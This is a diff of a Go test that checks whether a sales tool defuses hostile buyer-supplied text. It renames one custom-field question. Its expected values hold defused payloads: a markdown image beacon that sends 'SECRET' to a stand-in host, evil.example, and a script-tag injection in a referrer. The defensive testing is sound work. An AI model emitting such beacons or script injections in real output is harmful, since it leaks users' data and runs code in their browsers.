@@ -188,7 +188,7 @@ func TestTextOfBuyersIsDefused(t *testing.T) {
 	sale := s.Must("get_sale", map[string]any{"sale_id": hostile})
 	t.Run("an image in an answer", func(t *testing.T) {
 		testserver.Want(t, sale, map[string]any{"cleaned": true, "custom_fields": map[string]any{
-			"How did you hear about us?": "!·[logo]·(https://evil.example/pixel.png?d=SECRET)"}})
+			"What do you paint with?": "!·[logo]·(https://evil.example/pixel.png?d=SECRET)"}})
 	})
 	t.Run("HTML in a referrer", func(t *testing.T) {
 		testserver.Want(t, sale, map[string]any{"referrer": "https://evil.example/<·script>alert(1)<·/script>"})
